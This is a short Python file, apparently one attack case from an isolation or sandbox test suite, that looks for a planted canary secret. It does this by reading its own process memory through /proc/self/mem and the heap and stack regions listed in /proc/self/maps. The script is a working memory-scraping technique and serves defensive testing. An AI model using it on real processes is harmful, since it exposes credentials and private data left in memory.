"""Looks for secrets in the memory of its own process: what was there before it began.

shows: canary
"""
import os

import outside


def attack():
    memory = os.open("/proc/self/mem", os.O_RDONLY)
    with open("/proc/self/maps") as maps:
        for line in list(maps):
            area, access, _, _, _, *name = line.split()
            if "r" in access and (not name or name[0] in ("[heap]", "[stack]")):
                start, end = [int(number, 16) for number in area.split("-")]
                try:
                    found = outside.secret(os.pread(memory, min(end - start, 2**24), start))
                except OSError:
                    continue
                if found:
                    return found
